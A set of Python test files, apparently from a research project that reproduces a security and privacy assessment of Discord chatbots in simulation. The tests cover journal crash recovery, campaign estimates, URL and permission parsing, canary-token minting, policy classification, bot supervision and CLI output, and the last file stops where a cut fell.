"""Unit tests for the intra-stage write-ahead journal.

The torn-tail cases are the heart of the contract: whatever garbage a
crash leaves at the end of the file, replay must accept exactly the
maximal valid prefix and count (never trust) the rest.
"""

from __future__ import annotations

import json

import pytest

from repro.core.journal import (
    StageRecorder,
    UnitTracker,
    WriteAheadJournal,
    record_resume_provenance,
)
from repro.core.resilience import FaultLedger
from repro.core.supervision import QuarantineLog
from repro.web.network import VirtualClock


class FakeInternet:
    """Minimal stateful component with the UnitTracker capture protocol."""

    def __init__(self) -> None:
        self.counter = 0
        self.chaos = None

    def state_dict(self) -> dict:
        return {"counter": self.counter}

    def restore_state(self, state: dict) -> None:
        self.counter = state["counter"]

    def hostnames(self):
        return []

    def knows(self, hostname: str) -> bool:
        return False


def make_tracker(clock=None, internet=None, ledger=None, quarantines=None) -> UnitTracker:
    return UnitTracker(
        clock or VirtualClock(),
        internet or FakeInternet(),
        ledger if ledger is not None else FaultLedger(),
        quarantines if quarantines is not None else QuarantineLog(),
    )


def fill(journal: WriteAheadJournal, count: int, stage: str = "stage") -> None:
    for index in range(count):
        journal.append(stage, f"unit-{index}", {"value": index})


# -- append / replay round-trip ---------------------------------------------


def test_round_trip(tmp_path) -> None:
    path = tmp_path / "wal"
    journal = WriteAheadJournal(path)
    fill(journal, 3)
    assert journal.stats.appended == 3
    journal.close()

    reopened = WriteAheadJournal(path)
    records = reopened.pending("stage")
    assert [record.key for record in records] == ["unit-0", "unit-1", "unit-2"]
    assert [record.body["value"] for record in records] == [0, 1, 2]
    assert [record.seq for record in records] == [1, 2, 3]
    assert reopened.stats.discarded == 0


def test_pending_filters_by_stage(tmp_path) -> None:
    journal = WriteAheadJournal(tmp_path / "wal")
    journal.append("crawl", "page-1", {"value": 1})
    journal.append("traceability", "bot-a", {"value": 2})
    journal.append("crawl", "page-2", {"value": 3})
    assert [record.key for record in journal.pending("crawl")] == ["page-1", "page-2"]
    assert [record.key for record in journal.pending("traceability")] == ["bot-a"]


def test_append_after_reopen_extends_sequence(tmp_path) -> None:
    """Records appended after a close/reopen cycle must survive the next scan."""
    path = tmp_path / "wal"
    journal = WriteAheadJournal(path)
    fill(journal, 2)
    journal.close()

    second = WriteAheadJournal(path)
    second.append("stage", "unit-2", {"value": 2})
    second.close()

    third = WriteAheadJournal(path)
    assert [record.key for record in third.pending("stage")] == ["unit-0", "unit-1", "unit-2"]
    assert third.stats.discarded == 0


# -- torn tails --------------------------------------------------------------


def test_truncated_mid_record_keeps_valid_prefix(tmp_path) -> None:
    path = tmp_path / "wal"
    journal = WriteAheadJournal(path)
    fill(journal, 3)
    journal.close()

    raw = path.read_bytes()
    path.write_bytes(raw[: len(raw) - 20])  # tear the last record mid-line

    torn = WriteAheadJournal(path)
    assert [record.key for record in torn.pending("stage")] == ["unit-0", "unit-1"]
    assert torn.stats.discarded == 1
    assert "after seq 2" in torn.discard_detail


def test_flipped_byte_invalidates_from_that_record_on(tmp_path) -> None:
    """Corrupting the middle record drops it AND everything after it."""
    path = tmp_path / "wal"
    journal = WriteAheadJournal(path)
    fill(journal, 3)
    journal.close()

    lines = path.read_bytes().splitlines(keepends=True)
    middle = json.loads(lines[1])
    middle["body"]["value"] = 999  # body no longer matches the recorded sha
    lines[1] = (json.dumps(middle, sort_keys=True, separators=(",", ":")) + "\n").encode()
    path.write_bytes(b"".join(lines))

    torn = WriteAheadJournal(path)
    assert [record.key for record in torn.pending("stage")] == ["unit-0"]
    assert torn.stats.discarded == 2


def test_garbage_after_valid_tail_is_counted_and_truncated(tmp_path) -> None:
    path = tmp_path / "wal"
    journal = WriteAheadJournal(path)
    fill(journal, 2)
    journal.close()

    with open(path, "ab") as stream:
        stream.write(b"{not json at all\nxx\n")

    torn = WriteAheadJournal(path)
    assert len(torn.pending("stage")) == 2
    assert torn.stats.discarded == 2

    # The first append truncates the garbage; a fresh scan is then clean.
    torn.append("stage", "unit-2", {"value": 2})
    torn.close()
    clean = WriteAheadJournal(path)
    assert [record.seq for record in clean.pending("stage")] == [1, 2, 3]
    assert clean.stats.discarded == 0


def test_unterminated_valid_json_line_is_a_torn_append(tmp_path) -> None:
    """A record missing its newline is torn even if its JSON parses."""
    path = tmp_path / "wal"
    journal = WriteAheadJournal(path)
    fill(journal, 2)
    journal.close()

    raw = path.read_bytes()
    path.write_bytes(raw.rstrip(b"\n"))

    torn = WriteAheadJournal(path)
    assert len(torn.pending("stage")) == 1
    assert torn.stats.discarded == 1


def test_non_consecutive_sequence_breaks_the_prefix(tmp_path) -> None:
    path = tmp_path / "wal"
    journal = WriteAheadJournal(path)
    fill(journal, 3)
    journal.close()

    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(lines[0] + lines[2])  # seq 1 then seq 3: gap

    torn = WriteAheadJournal(path)
    assert len(torn.pending("stage")) == 1
    assert torn.stats.discarded == 1


# -- UnitTracker -------------------------------------------------------------


def test_tracker_diff_suppression(tmp_path) -> None:
    clock = VirtualClock()
    internet = FakeInternet()
    tracker = make_tracker(clock=clock, internet=internet)

    body = tracker.finish_unit({"ok": 1})
    assert body["result"] == {"ok": 1}
    assert "state" not in body  # nothing changed: no components stored

    tracker.begin_unit()
    internet.counter = 7
    clock.advance(5.0)
    body = tracker.finish_unit(None)
    assert body["clock"] == clock.now()
    assert body["state"] == {"internet": {"counter": 7}}


def test_tracker_captures_appended_faults_and_replays_them(tmp_path) -> None:
    ledger = FaultLedger()
    tracker = make_tracker(ledger=ledger)
    tracker.begin_unit()
    ledger.record("traceability", "bots.example", "Timeout", 12.0, bots_skipped=1)
    body = tracker.finish_unit(None)
    assert len(body["faults"]) == 1

    replay_ledger = FaultLedger()
    replay_clock = VirtualClock()
    replay_internet = FakeInternet()
    replayer = make_tracker(clock=replay_clock, internet=replay_internet, ledger=replay_ledger)
    replayer.apply(body)
    assert len(replay_ledger.records) == 1
    assert replay_ledger.records[0].error_class == "Timeout"
    assert replay_clock.now() == body["clock"]


def test_tracker_apply_restores_absolute_state(tmp_path) -> None:
    internet = FakeInternet()
    clock = VirtualClock()
    tracker = make_tracker(clock=clock, internet=internet)
    clock.advance(3.0)
    internet.counter = 42
    body = tracker.finish_unit({"value": 1})

    fresh_internet = FakeInternet()
    fresh_clock = VirtualClock()
    fresh = make_tracker(clock=fresh_clock, internet=fresh_internet)
    fresh.apply(body)
    assert fresh_internet.counter == 42
    assert fresh_clock.now() == pytest.approx(3.0)


# -- StageRecorder -----------------------------------------------------------


def test_recorder_replays_prefix_then_records_live(tmp_path) -> None:
    path = tmp_path / "wal"
    writer = WriteAheadJournal(path)
    tracker = make_tracker()
    recorder = StageRecorder(writer, "stage", tracker, FaultLedger())
    recorder.begin_unit()
    recorder.commit("unit-0", {"value": 0})
    recorder.begin_unit()
    recorder.commit("unit-1", {"value": 1})
    writer.close()

    reopened = WriteAheadJournal(path)
    ledger = FaultLedger()
    resumed = StageRecorder(reopened, "stage", make_tracker(ledger=ledger), ledger)
    replayed, payload = resumed.try_replay("unit-0")
    assert replayed and payload == {"value": 0}
    replayed, payload = resumed.try_replay("unit-1")
    assert replayed and payload == {"value": 1}
    replayed, payload = resumed.try_replay("unit-2")
    assert not replayed and payload is None
    assert reopened.stats.replayed == 2


def test_recorder_discards_on_key_mismatch(tmp_path) -> None:
    path = tmp_path / "wal"
    writer = WriteAheadJournal(path)
    tracker = make_tracker()
    recorder = StageRecorder(writer, "stage", tracker, FaultLedger())
    for index in range(3):
        recorder.begin_unit()
        recorder.commit(f"unit-{index}", {"value": index})
    writer.close()

    reopened = WriteAheadJournal(path)
    ledger = FaultLedger()
    resumed = StageRecorder(reopened, "stage", make_tracker(ledger=ledger), ledger)
    replayed, _ = resumed.try_replay("unit-0")
    assert replayed
    replayed, _ = resumed.try_replay("different-key")
    assert not replayed
    assert reopened.stats.discarded == 2  # the rest of the prefix is untrusted
    assert any(record.stage == "journal" for record in ledger.records)
    # Once discarded, later keys never resurrect stale records.
    replayed, _ = resumed.try_replay("unit-2")
    assert not replayed


def test_resume_provenance_uses_reserved_stage(tmp_path) -> None:
    ledger = FaultLedger()
    record_resume_provenance(ledger, "something happened")
    assert ledger.records[0].stage == "journal"
    assert ledger.records[0].error_class == "JournalRecovery"
    assert "something happened" in ledger.records[0].detail
