"""Tests for the campaign planner: estimates vs actual simulated runs."""

import pytest

from repro.core.config import PipelineConfig
from repro.core.planner import estimate_campaign


class TestEstimateShape:
    def test_summary_readable(self):
        estimate = estimate_campaign(PipelineConfig().scaled(1000, honeypot_sample_size=100))
        text = estimate.summary()
        assert "listing pages" in text and "virtual hours" in text

    def test_scales_with_population(self):
        small = estimate_campaign(PipelineConfig().scaled(500, honeypot_sample_size=50))
        large = estimate_campaign(PipelineConfig().scaled(5000, honeypot_sample_size=50))
        assert large.total_requests > 5 * small.total_requests
        assert large.listing_pages > small.listing_pages

    def test_disabled_stages_cost_less(self):
        full = PipelineConfig().scaled(1000, honeypot_sample_size=100)
        lean = PipelineConfig(
            n_bots=1000,
            honeypot_sample_size=100,
            run_traceability=False,
            run_code_analysis=False,
            run_honeypot=False,
        )
        assert estimate_campaign(lean).total_requests < estimate_campaign(full).total_requests
        assert estimate_campaign(lean).captcha_solves < estimate_campaign(full).captcha_solves

    def test_paper_scale_order_of_magnitude(self):
        estimate = estimate_campaign(PipelineConfig())
        assert 800 <= estimate.listing_pages <= 900  # "over 800 pages"
        assert estimate.captcha_solves > 300  # honeypot installs dominate
        assert estimate.virtual_hours > 10


class TestEstimateAccuracy:
    @pytest.fixture(scope="class")
    def run_and_estimate(self):
        from repro.core.pipeline import AssessmentPipeline

        config = PipelineConfig().scaled(600, honeypot_sample_size=60)
        estimate = estimate_campaign(config)
        result = AssessmentPipeline(config).run()
        return estimate, result

    def test_request_volume_within_factor_two(self, run_and_estimate):
        estimate, result = run_and_estimate
        actual = result.scrape_stats.pages_fetched
        assert 0.5 * estimate.total_requests <= actual <= 2.0 * estimate.total_requests

    def test_captcha_solves_within_factor_two(self, run_and_estimate):
        estimate, result = run_and_estimate
        actual_solves = result.scrape_stats.captchas_solved
        if result.honeypot is not None:
            actual_solves += result.honeypot.bots_tested - result.honeypot.install_failures
        assert 0.5 * estimate.captcha_solves <= actual_solves <= 2.0 * estimate.captcha_solves

    def test_duration_within_factor_two(self, run_and_estimate):
        estimate, result = run_and_estimate
        actual_hours = result.virtual_seconds / 3600.0
        assert 0.5 * estimate.virtual_hours <= actual_hours <= 2.0 * estimate.virtual_hours
