"""Property-based tests: URLs, DOM, snowflakes, policies, tokens, invites."""

import random

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.discordsim.oauth import build_invite_url, parse_invite_url
from repro.discordsim.permissions import ALL_PERMISSIONS_VALUE, Permissions
from repro.discordsim.snowflake import SnowflakeGenerator, snowflake_timestamp_ms
from repro.ecosystem.policies import PolicySpec, render_policy
from repro.honeypot.tokens import TokenFactory, TokenKind
from repro.traceability.analyzer import TraceabilityAnalyzer
from repro.traceability.keywords import CATEGORIES, categories_in_text
from repro.web.dom import parse_html
from repro.web.http import Url
from repro.web.network import VirtualClock

host_names = st.from_regex(r"[a-z][a-z0-9]{0,10}(\.[a-z]{2,5}){1,2}", fullmatch=True)
path_segments = st.lists(st.from_regex(r"[a-zA-Z0-9_-]{1,8}", fullmatch=True), max_size=4)


class TestUrlProperties:
    @given(host_names, path_segments)
    def test_parse_str_roundtrip(self, host, segments):
        raw = f"https://{host}/" + "/".join(segments)
        assert str(Url.parse(raw)) == raw

    @given(host_names, st.dictionaries(st.from_regex(r"[a-z]{1,6}", fullmatch=True), st.from_regex(r"[a-z0-9]{0,6}", fullmatch=True), max_size=4))
    def test_with_params_preserves_all(self, host, params):
        url = Url.parse(f"https://{host}/x").with_params(**params)
        decoded = url.query_params()
        for key, value in params.items():
            assert decoded[key] == value

    @given(host_names)
    def test_join_self_absolute(self, host):
        base = Url.parse(f"https://{host}/a/b")
        absolute = f"https://{host}/c"
        assert str(base.join(absolute)) == absolute


class TestDomProperties:
    texts = st.text(alphabet=st.characters(blacklist_characters="<>&\x00", blacklist_categories=("Cs",)), max_size=40)

    @given(texts)
    def test_text_content_preserved(self, content):
        doc = parse_html(f"<p>{content}</p>")
        normalized = " ".join(content.split())
        assert doc.select_one("p").text == normalized

    @given(st.lists(texts, min_size=1, max_size=8))
    def test_list_items_in_order(self, items):
        markup = "<ul>" + "".join(f"<li>{item}</li>" for item in items) + "</ul>"
        doc = parse_html(markup)
        parsed = [node.text for node in doc.select("ul li")]
        assert parsed == [" ".join(item.split()) for item in items]

    @given(st.integers(min_value=1, max_value=12))
    def test_nesting_depth_preserved(self, depth):
        markup = "<div>" * depth + "<span>leaf</span>" + "</div>" * depth
        doc = parse_html(markup)
        assert len(doc.select("div")) == depth
        assert doc.select_one("span").text == "leaf"


class TestSnowflakeProperties:
    @given(st.lists(st.floats(min_value=0.0001, max_value=10.0), min_size=1, max_size=50))
    def test_strictly_increasing(self, deltas):
        clock = VirtualClock()
        generator = SnowflakeGenerator(clock)
        previous = generator.next_id()
        for delta in deltas:
            clock.advance(delta)
            current = generator.next_id()
            assert current > previous
            assert snowflake_timestamp_ms(current) >= snowflake_timestamp_ms(previous)
            previous = current

    @given(st.integers(min_value=1, max_value=200))
    def test_burst_uniqueness(self, count):
        generator = SnowflakeGenerator(VirtualClock())
        ids = [generator.next_id() for _ in range(count)]
        assert len(set(ids)) == count


class TestInviteProperties:
    @given(st.integers(min_value=1, max_value=10**18), st.integers(min_value=0, max_value=ALL_PERMISSIONS_VALUE))
    def test_roundtrip(self, client_id, bits):
        permissions = Permissions(bits)
        invite = parse_invite_url(build_invite_url(client_id, permissions))
        assert invite.client_id == client_id
        assert invite.permissions == permissions


class TestPolicyProperties:
    category_sets = st.sets(st.sampled_from(CATEGORIES), min_size=1, max_size=4).map(frozenset)

    @given(category_sets, st.booleans(), st.booleans(), st.integers(min_value=0, max_value=10_000))
    @settings(max_examples=150)
    def test_detection_equals_ground_truth(self, categories, generic, tailored, seed):
        spec = PolicySpec(present=True, categories=categories, generic=generic, tailored=tailored)
        text = render_policy(spec, "PropBot", random.Random(seed))
        assert categories_in_text(text) == categories

    @given(category_sets, st.integers(min_value=0, max_value=10_000))
    def test_classification_consistent(self, categories, seed):
        spec = PolicySpec(present=True, categories=categories)
        text = render_policy(spec, "PropBot", random.Random(seed))
        predicted, _ = TraceabilityAnalyzer().classify_text(text)
        assert predicted.value == spec.expected_class


class TestTokenProperties:
    @given(st.lists(st.tuples(st.sampled_from(list(TokenKind)), st.text(min_size=1, max_size=10)), min_size=1, max_size=60))
    def test_ids_unique_across_kinds_and_contexts(self, requests):
        factory = TokenFactory()
        ids = [factory.mint(kind, context).token_id for kind, context in requests]
        assert len(set(ids)) == len(ids)

    @given(st.sampled_from(list(TokenKind)), st.text(min_size=1, max_size=20))
    def test_trigger_url_contains_id(self, kind, context):
        token = TokenFactory().mint(kind, context)
        assert token.token_id in token.trigger_url
        assert token.trigger_url.startswith("https://canary.sim/t/")


class TestWebhookProperties:
    @given(st.text(alphabet="abcdef0123456789", min_size=8, max_size=32), st.integers(min_value=1, max_value=10**15))
    def test_url_roundtrip_components(self, token, webhook_id):
        url = f"https://discord.sim/api/webhooks/{webhook_id}/{token}"
        parts = url.rstrip("/").split("/")
        assert int(parts[-2]) == webhook_id
        assert parts[-1] == token


class TestRiskProperties:
    from repro.analysis.risk import risk_score as _risk_score

    @given(st.integers(min_value=0, max_value=ALL_PERMISSIONS_VALUE))
    def test_risk_bounded(self, bits):
        from repro.analysis.risk import risk_score

        assert 0.0 <= risk_score(Permissions(bits)) <= 1.0

    @given(st.integers(min_value=0, max_value=ALL_PERMISSIONS_VALUE), st.integers(min_value=0, max_value=ALL_PERMISSIONS_VALUE))
    def test_risk_monotone_under_union(self, a_bits, b_bits):
        from repro.analysis.risk import risk_score

        a = Permissions(a_bits)
        combined = a | Permissions(b_bits)
        assert risk_score(combined) >= risk_score(a)

    @given(st.integers(min_value=0, max_value=ALL_PERMISSIONS_VALUE), st.lists(st.sampled_from(["music", "moderation", "fun"]), max_size=3))
    def test_over_privilege_bounded(self, bits, tags):
        from repro.analysis.risk import over_privilege_index

        assert 0.0 <= over_privilege_index(Permissions(bits), tags) <= 1.0

    @given(st.lists(st.sampled_from(["music", "moderation", "logging", "welcome"]), max_size=4))
    def test_more_tags_never_increase_over_privilege(self, tags):
        from repro.analysis.risk import over_privilege_index
        from repro.discordsim.permissions import Permission

        permissions = Permissions.of(Permission.KICK_MEMBERS, Permission.CONNECT, Permission.MANAGE_ROLES)
        wide = over_privilege_index(permissions, tags + ["moderation"])
        narrow = over_privilege_index(permissions, tags)
        assert wide <= narrow
