"""Tests for the CLI and result serialization."""

import json

import pytest

from repro.cli import build_parser, main
from repro.core.serialize import load_result_summary, result_to_dict, save_result


class TestSerialization:
    def test_roundtrip_summary(self, pipeline_result, tmp_path):
        path = save_result(pipeline_result, tmp_path / "result.json")
        loaded = load_result_summary(path)
        assert loaded["bots_collected"] == pipeline_result.bots_collected
        assert loaded["figure3"]["administrator_percent"] == pytest.approx(
            pipeline_result.permission_distribution.administrator_percent
        )
        assert loaded["table2"]["broken_fraction"] == pytest.approx(
            pipeline_result.traceability_summary.broken_fraction
        )
        assert loaded["honeypot"]["flagged"][0]["bot_name"] == "Melonian"

    def test_include_bots(self, pipeline_result):
        payload = result_to_dict(pipeline_result, include_bots=True)
        assert len(payload["bots"]) == pipeline_result.bots_collected
        sample = payload["bots"][0]
        assert {"name", "permissions", "permission_status"} <= set(sample)

    def test_json_serializable(self, pipeline_result):
        json.dumps(result_to_dict(pipeline_result, include_bots=True))

    def test_schema_version_checked(self, tmp_path):
        bad = tmp_path / "bad.json"
        bad.write_text(json.dumps({"schema_version": 999}))
        with pytest.raises(ValueError):
            load_result_summary(bad)


class TestCli:
    def test_parser_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_platforms_command(self, capsys):
        assert main(["platforms"]) == 0
        out = capsys.readouterr().out
        assert "discord" in out and "slack" in out
        assert "runtime enforcer" in out and "developer-trusted" in out

    def test_run_command_small(self, capsys, tmp_path):
        json_path = tmp_path / "out.json"
        code = main(
            ["--bots", "80", "--seed", "5", "run", "--honeypot-sample", "10", "--json", str(json_path)]
        )
        assert code == 0
        out = capsys.readouterr().out
        assert "Figure 3" in out and "Table 2" in out
        assert json_path.exists()
        loaded = load_result_summary(json_path)
        assert loaded["bots_collected"] == 80

    def test_honeypot_command(self, capsys):
        assert main(["--bots", "80", "--seed", "5", "honeypot", "--sample", "10"]) == 0
        out = capsys.readouterr().out
        assert "Tested 10 bots" in out
        assert "precision=" in out

    def test_traceability_command(self, capsys):
        assert main(["--bots", "60", "--seed", "5", "traceability"]) == 0
        out = capsys.readouterr().out
        assert "Website Link" in out and "broken=" in out

    def test_code_command(self, capsys):
        assert main(["--bots", "60", "--seed", "5", "code"]) == 0
        out = capsys.readouterr().out
        assert "github links" in out and "JavaScript" in out

    def test_plan_command(self, capsys):
        assert main(["--bots", "1000", "plan"]) == 0
        out = capsys.readouterr().out
        assert "Campaign plan" in out and "virtual hours" in out

    def test_longitudinal_command(self, capsys):
        assert main(["--bots", "120", "--seed", "6", "longitudinal", "--epochs", "2"]) == 0
        out = capsys.readouterr().out
        assert "epoch 0->1" in out and "mean risk" in out

    def test_vet_command(self, capsys):
        assert main(["--bots", "150", "--seed", "9", "vet"]) == 0
        out = capsys.readouterr().out
        assert "Vetted" in out and "rejected" in out


class TestMarkdownReport:
    def test_contains_all_sections(self, pipeline_result):
        from repro.core.markdown_report import render_markdown_report

        text = render_markdown_report(pipeline_result)
        for heading in (
            "# Chatbot Security & Privacy Assessment",
            "## Permission distribution (Figure 3)",
            "## Bots per developer (Table 1)",
            "## Traceability (Table 2)",
            "## Code analysis",
            "## Honeypot campaign",
            "## Population risk",
        ):
            assert heading in text
        assert "Melonian" in text
        assert "wtf is this bro" in text

    def test_tables_are_valid_gfm(self, pipeline_result):
        from repro.core.markdown_report import render_markdown_report

        text = render_markdown_report(pipeline_result)
        for line in text.splitlines():
            if line.startswith("|"):
                assert line.endswith("|")

    def test_cli_markdown_flag(self, capsys, tmp_path):
        md_path = tmp_path / "report.md"
        code = main(["--bots", "80", "--seed", "5", "run", "--honeypot-sample", "10", "--markdown", str(md_path)])
        assert code == 0
        assert md_path.exists()
        assert "## Permission distribution" in md_path.read_text()

    def test_sections_absent_for_disabled_stages(self):
        from repro.core.config import PipelineConfig
        from repro.core.markdown_report import render_markdown_report
        from repro.core.pipeline import AssessmentPipeline

        config = PipelineConfig(
            n_bots=50, seed=4, honeypot_sample_size=5,
            run_traceability=False, run_code_analysis=False, run_honeypot=False,
        )
        text = render_markdown_report(AssessmentPipeline(config).run())
        assert "## Traceability" not in text
        assert "## Honeypot campaign" not in text
        assert "## Permission distribution" in text

    def test_compare_command(self, capsys):
        code = main(["--bots", "600", "--seed", "2022", "compare"])
        out = capsys.readouterr().out
        assert "Paper vs. measured" in out
        assert code == 0 and "REPRODUCED" in out
