"""Unit tests for the bot-level supervision layer.

`BotSupervisor` is the exception firewall every per-bot unit of work runs
inside; these tests drive it directly with a real `VirtualClock` and
`EventBus` so the guard mechanics (watchdog install/remove, event budget,
passthrough types, cleanup-on-quarantine) are exercised without the full
pipeline on top.
"""

import pytest

from repro.core.resilience import FaultLedger
from repro.core.supervision import (
    QUARANTINE_DETAIL_PREFIX,
    REASON_CRASH,
    REASON_DEADLINE,
    REASON_EVENT_FLOOD,
    AccountingError,
    BotSupervisor,
    DeadlineExceeded,
    EventBudgetExceeded,
    QuarantineLog,
    QuarantineRecord,
    SupervisionError,
    verify_accounting,
)
from repro.discordsim.gateway import Event, EventBus, EventType
from repro.web.network import NetworkError, VirtualClock


def _supervisor(**overrides) -> BotSupervisor:
    defaults = dict(
        stage="honeypot",
        clock=VirtualClock(),
        ledger=FaultLedger(),
        quarantines=QuarantineLog(),
        bus=None,
        max_events=0,
        deadline=0.0,
    )
    defaults.update(overrides)
    return BotSupervisor(**defaults)


class TestCrashQuarantine:
    def test_completed_work_returns_value(self):
        supervisor = _supervisor()
        outcome = supervisor.run("GoodBot", lambda: 42)
        assert outcome.completed
        assert outcome.value == 42
        assert not outcome.quarantined
        assert len(supervisor.quarantines) == 0

    def test_crash_quarantines_with_root_cause(self):
        supervisor = _supervisor()

        def explode():
            raise RuntimeError("backend exploded")

        outcome = supervisor.run("BadBot", explode)
        assert not outcome.completed
        assert outcome.quarantined
        record = outcome.record
        assert record.reason == REASON_CRASH
        assert record.bot_name == "BadBot"
        assert record.root_cause == "RuntimeError"
        assert supervisor.quarantines.bot_names() == ["BadBot"]

    def test_crash_lands_in_fault_ledger_with_prefix(self):
        supervisor = _supervisor()
        supervisor.run("BadBot", lambda: (_ for _ in ()).throw(ValueError("boom")))
        assert len(supervisor.ledger) == 1
        fault = supervisor.ledger.records[0]
        assert fault.host == "bot:BadBot"
        assert fault.detail.startswith(QUARANTINE_DETAIL_PREFIX)
        assert fault.bots_skipped == 0  # quarantine is its own bucket
        assert supervisor.ledger.quarantine_records() == [fault]

    def test_cleanup_runs_on_quarantine_not_on_success(self):
        supervisor = _supervisor()
        halted = []
        supervisor.run("Good", lambda: 1, cleanup=lambda: halted.append("good"))
        assert halted == []

        def explode():
            raise RuntimeError("x")

        supervisor.run("Bad", explode, cleanup=lambda: halted.append("bad"))
        assert halted == ["bad"]

    def test_passthrough_types_reraise_untouched(self):
        supervisor = _supervisor(passthrough=(NetworkError,))
        with pytest.raises(NetworkError):
            supervisor.run("NetBot", lambda: (_ for _ in ()).throw(NetworkError("dns")))
        assert len(supervisor.quarantines) == 0
        assert len(supervisor.ledger) == 0

    def test_keyboard_interrupt_is_never_swallowed(self):
        supervisor = _supervisor()
        with pytest.raises(KeyboardInterrupt):
            supervisor.run("CtrlC", lambda: (_ for _ in ()).throw(KeyboardInterrupt()))
        assert len(supervisor.quarantines) == 0


class TestDeadlineGuard:
    def test_stalling_work_trips_deadline(self):
        clock = VirtualClock()
        supervisor = _supervisor(clock=clock, deadline=100.0)

        def stall():
            clock.sleep(5_000.0)

        outcome = supervisor.run("Staller", stall)
        assert outcome.quarantined
        assert outcome.record.reason == REASON_DEADLINE
        assert outcome.record.root_cause == "DeadlineExceeded"
        # Time stays monotonic across the abort.
        assert clock.now() == 5_000.0

    def test_work_under_deadline_completes(self):
        clock = VirtualClock()
        supervisor = _supervisor(clock=clock, deadline=100.0)
        outcome = supervisor.run("Quick", lambda: clock.sleep(50.0))
        assert outcome.completed

    def test_watchdog_removed_after_run(self):
        clock = VirtualClock()
        supervisor = _supervisor(clock=clock, deadline=10.0)
        supervisor.run("One", lambda: None)
        # Clock time passing between supervised windows must not raise.
        clock.advance(1_000_000.0)

    def test_deadline_measures_elapsed_not_absolute(self):
        clock = VirtualClock()
        clock.advance(1_000.0)  # pre-existing virtual time
        supervisor = _supervisor(clock=clock, deadline=100.0)
        outcome = supervisor.run("Late", lambda: clock.sleep(50.0))
        assert outcome.completed

    def test_zero_deadline_disables_guard(self):
        clock = VirtualClock()
        supervisor = _supervisor(clock=clock, deadline=0.0)
        outcome = supervisor.run("Slow", lambda: clock.sleep(10**9))
        assert outcome.completed


class TestEventBudgetGuard:
    @staticmethod
    def _flood(bus: EventBus, count: int) -> None:
        for _ in range(count):
            bus.dispatch(Event(type=EventType.MESSAGE_CREATE, guild_id=1))

    def test_flooding_work_trips_budget(self):
        bus = EventBus()
        supervisor = _supervisor(bus=bus, max_events=10)
        outcome = supervisor.run("Flooder", lambda: self._flood(bus, 50))
        assert outcome.quarantined
        assert outcome.record.reason == REASON_EVENT_FLOOD
        assert outcome.record.root_cause == "EventBudgetExceeded"

    def test_work_under_budget_completes(self):
        bus = EventBus()
        supervisor = _supervisor(bus=bus, max_events=10)
        outcome = supervisor.run("Chatty", lambda: self._flood(bus, 10))
        assert outcome.completed

    def test_budget_is_per_run_not_cumulative(self):
        bus = EventBus()
        supervisor = _supervisor(bus=bus, max_events=10)
        for name in ("A", "B", "C"):
            outcome = supervisor.run(name, lambda: self._flood(bus, 8))
            assert outcome.completed, name

    def test_guard_removed_after_run(self):
        bus = EventBus()
        supervisor = _supervisor(bus=bus, max_events=5)
        supervisor.run("One", lambda: None)
        self._flood(bus, 100)  # unsupervised dispatches must not raise

    def test_zero_budget_disables_guard(self):
        bus = EventBus()
        supervisor = _supervisor(bus=bus, max_events=0)
        outcome = supervisor.run("Loud", lambda: self._flood(bus, 1_000))
        assert outcome.completed


class TestSupervisionErrors:
    def test_guard_errors_are_not_transport_errors(self):
        # Behaviours catch NetworkError/ApiError/GuildError; a guard trip
        # must not be swallowable by the handler it polices.
        assert not issubclass(SupervisionError, NetworkError)
        assert issubclass(EventBudgetExceeded, SupervisionError)
        assert issubclass(DeadlineExceeded, SupervisionError)

    def test_messages_carry_numbers(self):
        assert "budget 5" in str(EventBudgetExceeded("b", 6, 5))
        assert "deadline 10.0" in str(DeadlineExceeded("b", 11.0, 10.0))


class TestVerifyAccounting:
    def test_closed_books_pass(self):
        verify_accounting("honeypot", 10, processed=7, skipped=2, quarantined=1)

    def test_open_books_raise_with_stage_name(self):
        with pytest.raises(AccountingError, match="honeypot"):
            verify_accounting("honeypot", 10, processed=7, skipped=2, quarantined=0)


class TestQuarantineLog:
    def _log(self) -> QuarantineLog:
        log = QuarantineLog()
        log.record("honeypot", "A", REASON_CRASH, RuntimeError("x"), 1.25)
        log.record("honeypot", "B", REASON_EVENT_FLOOD, EventBudgetExceeded("B", 11, 10), 2.5)
        log.record("traceability", "C", REASON_CRASH, "ValueError", 3.0, detail="policy fetch")
        return log

    def test_roundtrip(self):
        log = self._log()
        clone = QuarantineLog.from_dict(log.to_dict())
        assert clone.records == log.records

    def test_counts_and_names(self):
        log = self._log()
        assert len(log) == 3
        assert log.count("honeypot") == 2
        assert log.bot_names("honeypot") == ["A", "B"]
        assert log.by_reason() == {REASON_CRASH: 2, REASON_EVENT_FLOOD: 1}

    def test_string_root_cause_kept_verbatim(self):
        log = self._log()
        assert log.records[2].root_cause == "ValueError"

    def test_summary_line(self):
        line = self._log().summary_line()
        assert "Quarantined 3 bot runtime(s)" in line
        assert "crash: 2" in line

    def test_extend_merges_in_order(self):
        target = QuarantineLog()
        target.extend(self._log())
        target.extend(self._log())
        assert len(target) == 6
        assert target.bot_names() == ["A", "B", "C", "A", "B", "C"]

    def test_record_from_dict_tolerates_missing_optionals(self):
        record = QuarantineRecord.from_dict({"stage": "s", "bot_name": "b", "reason": REASON_CRASH})
        assert record.root_cause == ""
        assert record.virtual_time == 0.0
