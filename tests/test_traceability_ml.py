"""Tests for the Naive Bayes traceability classifier."""

import random

import pytest

from repro.ecosystem.policies import PolicySpec, UNLISTED_SYNONYM_SENTENCES, render_policy
from repro.traceability.keywords import CATEGORIES, categories_in_text
from repro.traceability.mlmodel import (
    NaiveBayesTraceability,
    build_labelled_corpus,
    keyword_baseline_evaluation,
    tokenize,
)


class TestTokenizer:
    def test_lowercases_and_splits(self):
        assert tokenize("We Collect Data") == ["collect", "data"]

    def test_stopwords_removed(self):
        assert "the" not in tokenize("the data is the point")

    def test_keeps_apostrophes(self):
        assert "don't" in tokenize("we don't sell")


class TestUnlistedSynonymPolicies:
    def test_keyword_method_blind_to_variants(self):
        rng = random.Random(1)
        spec = PolicySpec(
            present=True,
            categories=frozenset({"collect", "disclose"}),
            unlisted_synonyms=True,
        )
        text = render_policy(spec, "SneakyBot", rng)
        assert categories_in_text(text) == set()  # the blind spot, verbatim

    def test_variant_bank_covers_all_categories(self):
        assert set(UNLISTED_SYNONYM_SENTENCES) == set(CATEGORIES)

    def test_variant_sentences_avoid_listed_keywords(self):
